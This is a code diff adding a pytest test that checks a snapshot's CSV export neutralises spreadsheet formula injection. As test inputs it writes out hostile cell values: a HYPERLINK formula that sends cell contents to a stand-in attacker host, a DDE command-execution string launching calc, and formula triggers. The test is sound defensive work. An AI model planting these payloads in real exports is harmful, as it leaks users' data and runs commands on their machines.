@@ -123,3 +123,19 @@ def test_column_lists_match_the_rows_they_head():
     for table in ("documents", "copies", "stories", "events", "mentions", "briefs"):
         data = rows(SNAP, table)
         assert list(data[0]) == columns(table), table
+
+
+@pytest.mark.parametrize("table", ["documents", "stories", "events"])
+def test_csv_cells_that_would_run_as_formulas_are_neutralised_in_every_table(table):
+    from dataclasses import replace
+
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    snap = sample_snapshot()
+    docs = tuple(replace(d, title=hostile, outlet="@SUM(1+1)") for d in snap.documents)
+    stories = tuple(replace(s, title="+cmd|' /C calc'!A0") for s in snap.stories)
+    events = tuple(replace(e, actors=("-2+3", *e.actors)) for e in snap.events)
+    snap = replace(snap, documents=docs, stories=stories, events=events)
+    body, _ = export_snapshot(snap, table, "csv")
+    cells = [c for row in csv.reader(io.StringIO(body.decode())) for c in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and not c[1:].replace(".", "").isdigit())]
+    assert any(c.startswith("'") for c in cells)
